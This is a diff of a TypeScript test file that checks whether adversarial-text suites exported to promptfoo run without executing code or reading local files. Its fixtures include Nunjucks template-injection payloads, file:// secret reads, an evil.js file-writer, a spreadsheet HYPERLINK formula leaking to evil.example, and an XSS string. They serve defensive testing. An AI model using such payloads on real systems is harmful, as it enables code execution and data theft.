@@ -39,7 +39,11 @@ function quiver(...args: string[]) {
 
 function startServe(): Promise<string> {
   return new Promise((resolve, reject) => {
-    const child = spawn(process.execPath, [cli, 'serve', '--model', 'local:wink', '--port', '0', '--answer', 'label', '--input-marker', ''], { cwd: work, stdio: ['ignore', 'pipe', 'pipe'] });
+    const child = spawn(
+      process.execPath,
+      [cli, 'serve', '--model', 'local:wink', '--port', '0', '--answer', 'label', '--input-marker', ''],
+      { cwd: work, stdio: ['ignore', 'pipe', 'pipe'] },
+    );
     server = child;
     let out = '';
     let err = '';
@@ -84,44 +88,71 @@ function evaluate(config: string, name: string): { code: number | null; results:
     QUIVER_NET_LOG: netLog,
   });
   const out = join(work, `${name}.results.json`);
-  const r = spawnSync(process.execPath, [promptfoo, 'eval', '-c', config, '--no-cache', '--no-table', '--no-progress-bar', '-o', out], { cwd: work, encoding: 'utf8', env, timeout: 120_000 });
-  assert.ok(existsSync(out), `promptfoo wrote no results (exit ${r.status}): ${r.stdout.slice(-2000)}${r.stderr.slice(-2000)}`);
-  const results = (JSON.parse(readFileSync(out, 'utf8')) as { results: { results: PromptfooResult[] } }).results.results;
+  const r = spawnSync(
+    process.execPath,
+    [promptfoo, 'eval', '-c', config, '--no-cache', '--no-table', '--no-progress-bar', '-o', out],
+    { cwd: work, encoding: 'utf8', env, timeout: 120_000 },
+  );
+  assert.ok(
+    existsSync(out),
+    `promptfoo wrote no results (exit ${r.status}): ${r.stdout.slice(-2000)}${r.stderr.slice(-2000)}`,
+  );
+  const results = (JSON.parse(readFileSync(out, 'utf8')) as { results: { results: PromptfooResult[] } }).results
+    .results;
   return { code: r.status, results, hosts: readFileSync(netLog, 'utf8').trim().split('\n').filter(Boolean) };
 }
 
 /** Every adversarial case fails with the label recorded in the campaign, every control passes. */
-function checkAsRecorded(results: readonly PromptfooResult[], expected: { adversarial: number; controls: number }): void {
-  const byKind = (k: string) => results.filter((r) => r.testCase.metadata?.['quiverKind'] === k);
+function checkAsRecorded(
+  results: readonly PromptfooResult[],
+  expected: { adversarial: number; controls: number },
+): void {
+  const byKind = (k: string) => results.filter((r) => r.testCase.metadata?.quiverKind === k);
   const adversarial = byKind('adversarial');
   const controls = byKind('control');
   assert.equal(adversarial.length, expected.adversarial);
   assert.equal(controls.length, expected.controls);
   for (const r of adversarial) {
     assert.equal(r.success, false, `adversarial case passed: ${r.prompt.raw}`);
-    assert.equal(r.response?.output, r.testCase.metadata?.['recordedLabel'], r.prompt.raw);
+    assert.equal(r.response?.output, r.testCase.metadata?.recordedLabel, r.prompt.raw);
   }
-  for (const r of controls) assert.equal(r.success, true, `control failed: ${r.prompt.raw} -> ${String(r.response?.output)}`);
+  for (const r of controls)
+    assert.equal(r.success, true, `control failed: ${r.prompt.raw} -> ${String(r.response?.output)}`);
 }
 
 /** Every input reached the model verbatim, the template-like text included (promptfoo renders vars as Nunjucks). */
 function checkVerbatim(results: readonly PromptfooResult[]): void {
-  const texts = new Map(readFileSync(join(work, 'quiver-suite.jsonl'), 'utf8').trim().split('\n').slice(1).map((l) => {
-    const c = JSON.parse(l) as { kind: string; id: string; text: string };
-    return [`${c.kind}/${c.id}`, c.text];
-  }));
-  for (const r of results) assert.equal(r.prompt.raw, texts.get(`${String(r.testCase.metadata?.['quiverKind'])}/${String(r.testCase.metadata?.['exampleId'])}`));
-  const tpl = results.find((r) => r.testCase.metadata?.['exampleId'] === 'tpl');
+  const texts = new Map(
+    readFileSync(join(work, 'quiver-suite.jsonl'), 'utf8')
+      .trim()
+      .split('\n')
+      .slice(1)
+      .map((l) => {
+        const c = JSON.parse(l) as { kind: string; id: string; text: string };
+        return [`${c.kind}/${c.id}`, c.text];
+      }),
+  );
+  for (const r of results)
+    assert.equal(
+      r.prompt.raw,
+      texts.get(`${String(r.testCase.metadata?.quiverKind)}/${String(r.testCase.metadata?.exampleId)}`),
+    );
+  const tpl = results.find((r) => r.testCase.metadata?.exampleId === 'tpl');
   assert.ok(tpl !== undefined, 'the templated example is in the suite');
   assert.match(tpl.prompt.raw, /\{\{ product \}\}/);
 }
 
 const TEMPLATED = 'Great {{ product }} and {% if x %}tags{% endif %}, "quoted", highly recommended.';
 
-test('a campaign whose dataset includes template-like text, and quiver serve in front of the same model', { skip }, async () => {
-  const demo = readFileSync(join(root, 'experiments', 'data', 'demo-reviews.jsonl'), 'utf8').trim().split('\n').slice(0, 30);
+test('a campaign whose dataset includes template-like text, and quiver serve in front of the same model', {
+  skip,
+}, async () => {
+  const demo = readFileSync(join(root, 'experiments', 'data', 'demo-reviews.jsonl'), 'utf8')
+    .trim()
+    .split('\n')
+    .slice(0, 30);
   const extra = [JSON.stringify({ id: 'tpl', text: TEMPLATED, label: 'positive' })];
-  writeFileSync(join(work, 'data.jsonl'), [...demo, ...extra].join('\n') + '\n');
+  writeFileSync(join(work, 'data.jsonl'), `${[...demo, ...extra].join('\n')}\n`);
   quiver('run', '--dataset', 'data.jsonl', '--workers', '2', '--out', 'camp');
   baseUrl = await startServe();
   quiver('export', 'camp', '--format', 'promptfoo', '--controls', '--api-base-url', baseUrl, '--out', 'suite.yaml');
@@ -131,11 +162,15 @@ test('a campaign whose dataset includes template-like text, and quiver serve in 
 });
 
 function counts(): { adversarial: number; controls: number } {
-  const header = JSON.parse(readFileSync(join(work, 'quiver-suite.jsonl'), 'utf8').split('\n')[0]!) as { cases: { adversarial: number; controls: number } };
+  const header = JSON.parse(readFileSync(join(work, 'quiver-suite.jsonl'), 'utf8').split('\n')[0]!) as {
+    cases: { adversarial: number; controls: number };
+  };
   return header.cases;
 }
 
-test('promptfoo eval of the YAML suite: adversarial cases fail and controls pass, as recorded, offline', { skip }, () => {
+test('promptfoo eval of the YAML suite: adversarial cases fail and controls pass, as recorded, offline', {
+  skip,
+}, () => {
   const { code, results, hosts } = evaluate('suite.yaml', 'yaml');
   const n = counts();
   assert.ok(n.adversarial > 0 && n.controls > 0);
@@ -171,14 +206,30 @@ test('promptfoo eval of the CSV and JSONL test files gives the same outcomes', {
 function hostileTexts(): { id: string; text: string; label: string }[] {
   const write = (name: string) => `process.getBuiltinModule('fs').writeFileSync('${join(work, name)}','ran')`;
   return [
-    { id: 'h-endraw', text: `{{ range.constructor("return ${write('pwned-endraw')}")() }} endraw, a wonderful, delightful film.`, label: 'positive' },
-    { id: 'h-close', text: `{% endraw %}{{ range.constructor("return ${write('pwned-close')}")() }}{% raw %} a dreadful, boring, awful mess.`, label: 'negative' },
-    { id: 'h-math', text: '{% raw %}{{ 7*7 }} endraw {% endraw %} great fun, I loved it, excellent.', label: 'positive' },
+    {
+      id: 'h-endraw',
+      text: `{{ range.constructor("return ${write('pwned-endraw')}")() }} endraw, a wonderful, delightful film.`,
+      label: 'positive',
+    },
+    {
+      id: 'h-close',
+      text: `{% endraw %}{{ range.constructor("return ${write('pwned-close')}")() }}{% raw %} a dreadful, boring, awful mess.`,
+      label: 'negative',
+    },
+    {
+      id: 'h-math',
+      text: '{% raw %}{{ 7*7 }} endraw {% endraw %} great fun, I loved it, excellent.',
+      label: 'positive',
+    },
     { id: 'h-comment', text: 'a {# comment #} superb #} moving, beautiful story.', label: 'positive' },
     { id: 'h-file', text: `file://${join(work, 'secret.txt')}`, label: 'negative' },
     { id: 'h-js', text: `file://${join(work, 'evil.js')}`, label: 'negative' },
     { id: 'h-package', text: 'package:node:fs:readFileSync terrible, awful, boring', label: 'negative' },
-    { id: 'h-formula', text: '=HYPERLINK("http://evil.example/?leak="&A1,"click") what a great, wonderful film', label: 'positive' },
+    {
+      id: 'h-formula',
+      text: '=HYPERLINK("http://evil.example/?leak="&A1,"click") what a great, wonderful film',
+      label: 'positive',
+    },
     { id: 'h-plus', text: '+1 brilliant, lovely acting', label: 'positive' },
     { id: 'h-at', text: '@SUM(1+1) dull, awful and boring', label: 'negative' },
   ];
@@ -186,47 +237,117 @@ function hostileTexts(): { id: string; text: string; label: string }[] {
 
 const CANARY = 'QUIVER-CANARY-SECRET';
 
-test('promptfoo\'s own renderPrompt gives back every text nunjucksLiteral encodes (20,000 random hostile strings)', { skip }, async () => {
+test("promptfoo's own renderPrompt gives back every text nunjucksLiteral encodes (20,000 random hostile strings)", {
+  skip,
+}, async () => {
   const require = createRequire(join(pfDir, 'node_modules', 'promptfoo', 'package.json'));
   const { renderPrompt } = require(join(pfDir, 'node_modules', 'promptfoo', 'dist', 'src', 'evaluatorHelpers.js')) as {
-    renderPrompt(prompt: { raw: string; label: string }, vars: Record<string, string>, filters: object): Promise<string>;
+    renderPrompt(
+      prompt: { raw: string; label: string },
+      vars: Record<string, string>,
+      filters: object,
+    ): Promise<string>;
   };
-  const alphabet = ['{', '}', '%', '#', '-', ' ', '"', "'", '\\', '\n', '\t', '\r', '\u2028', 'raw', 'endraw', '{{', '}}', '{%', '%}',
-    '{#', '#}', 'file://', 'package:', '=', '+', '@', 'x', 'é', '😀'];
+  const alphabet = [
+    '{',
+    '}',
+    '%',
+    '#',
+    '-',
+    ' ',
+    '"',
+    "'",
+    '\\',
+    '\n',
+    '\t',
+    '\r',
+    '\u2028',
+    'raw',
+    'endraw',
+    '{{',
+    '}}',
+    '{%',
+    '%}',
+    '{#',
+    '#}',
+    'file://',
+    'package:',
+    '=',
+    '+',
+    '@',
+    'x',
+    'é',
+    '😀',
+  ];
   let seed = 7;
-  const next = () => ((seed = (seed * 1103515245 + 12345) % 2147483648) / 2147483648);
+  const next = () => (seed = (seed * 1103515245 + 12345) % 2147483648) / 2147483648;
   for (let i = 0; i < 20_000; i++) {
     let s = '';
     for (let k = 1 + Math.floor(next() * 10); k > 0; k--) s += alphabet[Math.floor(next() * alphabet.length)];
-    assert.equal(await renderPrompt({ raw: '{{text}}', label: 'p' }, { text: nunjucksLiteral(s) }, {}), s, JSON.stringify(s));
+    assert.equal(
+      await renderPrompt({ raw: '{{text}}', label: 'p' }, { text: nunjucksLiteral(s) }, {}),
+      s,
+      JSON.stringify(s),
+    );
   }
 });
 
 test('a campaign on hostile dataset texts, exported in the three promptfoo forms', { skip }, () => {
   writeFileSync(join(work, 'secret.txt'), `${CANARY}\n`);
-  writeFileSync(join(work, 'evil.js'), `require('node:fs').writeFileSync(${JSON.stringify(join(work, 'pwned-js'))}, 'ran');\nmodule.exports = () => ({ output: '${CANARY}' });\n`);
-  writeFileSync(join(work, 'hostile.jsonl'), hostileTexts().map((t) => JSON.stringify(t)).join('\n') + '\n');
+  writeFileSync(
+    join(work, 'evil.js'),
+    `require('node:fs').writeFileSync(${JSON.stringify(join(work, 'pwned-js'))}, 'ran');\nmodule.exports = () => ({ output: '${CANARY}' });\n`,
+  );
+  writeFileSync(
+    join(work, 'hostile.jsonl'),
+    `${hostileTexts()
+      .map((t) => JSON.stringify(t))
+      .join('\n')}\n`,
+  );
   quiver('run', '--dataset', 'hostile.jsonl', '--workers', '1', '--out', 'hostile');
-  quiver('export', 'hostile', '--format', 'promptfoo', '--controls', '--api-base-url', baseUrl, '--out', 'hostile.yaml');
+  quiver(
+    'export',
+    'hostile',
+    '--format',
+    'promptfoo',
+    '--controls',
+    '--api-base-url',
+    baseUrl,
+    '--out',
+    'hostile.yaml',
+  );
   quiver('export', 'hostile', '--format', 'promptfoo-csv', '--controls', '--out', 'hostile.csv');
   quiver('export', 'hostile', '--format', 'promptfoo-jsonl', '--controls', '--out', 'hostile-tests.jsonl');
   quiver('export', 'hostile', '--format', 'jsonl', '--controls', '--out', 'hostile-suite.jsonl');
 });
 
-test('promptfoo eval of hostile suites: nothing executes, no file is read, each test sends the text Quiver found', { skip }, () => {
-  const suite = readFileSync(join(work, 'hostile-suite.jsonl'), 'utf8').trim().split('\n').slice(1).map((l) => JSON.parse(l) as { kind: string; id: string; text: string });
+test('promptfoo eval of hostile suites: nothing executes, no file is read, each test sends the text Quiver found', {
+  skip,
+}, () => {
+  const suite = readFileSync(join(work, 'hostile-suite.jsonl'), 'utf8')
+    .trim()
+    .split('\n')
+    .slice(1)
+    .map((l) => JSON.parse(l) as { kind: string; id: string; text: string });
   const sent = new Map(suite.map((c) => [`${c.kind}/${c.id}`, c.text]));
-  assert.deepEqual(new Set(suite.map((c) => c.id)), new Set(hostileTexts().map((t) => t.id)), 'every hostile text is in the suite');
+  assert.deepEqual(
+    new Set(suite.map((c) => c.id)),
+    new Set(hostileTexts().map((t) => t.id)),
+    'every hostile text is in the suite',
+  );
   const forms: [string, string][] = [
     ['yaml', 'hostile.yaml'],
     ...['csv', 'jsonl'].map((form): [string, string] => {
       const file = form === 'csv' ? 'hostile.csv' : 'hostile-tests.jsonl';
-      writeFileSync(join(work, `hostile-${form}.yaml`), toYaml({
-        prompts: ['{{text}}'],
-        providers: [{ id: 'openai:chat:local:wink', config: { apiBaseUrl: baseUrl, apiKeyRequired: false } }],
-        defaultTest: { options: { transform: 'output.trim()' } },
-        tests: `file://${file}`,
-      }));
+      writeFileSync(
+        join(work, `hostile-${form}.yaml`),
+        toYaml({
+          prompts: ['{{text}}'],
+          providers: [{ id: 'openai:chat:local:wink', config: { apiBaseUrl: baseUrl, apiKeyRequired: false } }],
+          defaultTest: { options: { transform: 'output.trim()' } },
+          tests: `file://${file}`,
+        }),
+      );
       return [form, `hostile-${form}.yaml`];
     }),
   ];
@@ -234,13 +355,14 @@ test('promptfoo eval of hostile suites: nothing executes, no file is read, each 
     const { results } = evaluate(config, `hostile-${form}`);
     assert.equal(results.length, suite.length, `${form}: promptfoo ran every test (none aborted the eval)`);
     for (const r of results) {
-      const key = `${String(r.testCase.metadata?.['quiverKind'])}/${String(r.testCase.metadata?.['exampleId'])}`;
+      const key = `${String(r.testCase.metadata?.quiverKind)}/${String(r.testCase.metadata?.exampleId)}`;
       assert.equal(r.prompt.raw, sent.get(key), `${form}: ${key} sent exactly the text Quiver found`);
       assert.ok(!JSON.stringify(r).includes(CANARY), `${form}: ${key} read a local file`);
     }
-    const controls = results.filter((r) => r.testCase.metadata?.['quiverKind'] === 'control');
+    const controls = results.filter((r) => r.testCase.metadata?.quiverKind === 'control');
     for (const r of controls) assert.equal(r.success, true, `${form}: control failed: ${r.prompt.raw}`);
-    for (const name of ['pwned-endraw', 'pwned-close', 'pwned-js']) assert.ok(!existsSync(join(work, name)), `${form}: ${name} was written: code ran`);
+    for (const name of ['pwned-endraw', 'pwned-close', 'pwned-js'])
+      assert.ok(!existsSync(join(work, name)), `${form}: ${name} was written: code ran`);
   }
 });
 
@@ -248,10 +370,48 @@ test('the YAML emitter round-trips hostile strings through the parser promptfoo 
   const require = createRequire(join(pfDir, 'node_modules', 'promptfoo', 'package.json'));
   const yaml = require('js-yaml') as { load(s: string): unknown };
   const nasty = [
-    'yes', 'no', 'null', '~', '0x1F', '1e3', '-', '- item', ': colon', '#hash', 'a # b', '&anchor', '*alias', '!tag', '%dir',
-    '@at', '`tick`', '"dq"', "'sq'", '{flow: map}', '[flow, seq]', '|', '>', ' leading', 'trailing ', 'tab\there',
-    'multi\nline\n', 'crlf\r\n', 'nul\u0000', 'bell\u0007', 'del\u007f', 'nel\u0085', 'ls\u2028ps\u2029', '\uFEFFbom', 'é😀',
-    '<img src=x onerror=alert(1)>', '{{ var }}', '', '\\', 'back\\slash\\n', 'c1\u0090', 'non\uFFFEchar\uFFFF',
+    'yes',
+    'no',
+    'null',
+    '~',
+    '0x1F',
+    '1e3',
+    '-',
+    '- item',
+    ': colon',
+    '#hash',
+    'a # b',
+    '&anchor',
+    '*alias',
+    '!tag',
+    '%dir',
+    '@at',
+    '`tick`',
+    '"dq"',
+    "'sq'",
+    '{flow: map}',
+    '[flow, seq]',
+    '|',
+    '>',
+    ' leading',
+    'trailing ',
+    'tab\there',
+    'multi\nline\n',
+    'crlf\r\n',
+    'nul\u0000',
+    'bell\u0007',
+    'del\u007f',
+    'nel\u0085',
+    'ls\u2028ps\u2029',
+    '\uFEFFbom',
+    'é😀',
+    '<img src=x onerror=alert(1)>',
+    '{{ var }}',
+    '',
+    '\\',
+    'back\\slash\\n',
+    'c1\u0090',
+    'non\uFFFEchar\uFFFF',
     'a text longer than a folded line would be, with a break\n  and an indented second line ',
   ];
   const doc = { tests: nasty.map((s) => ({ vars: { text: s }, metadata: { [s === '' ? 'empty' : `k ${s}`]: s } })) };
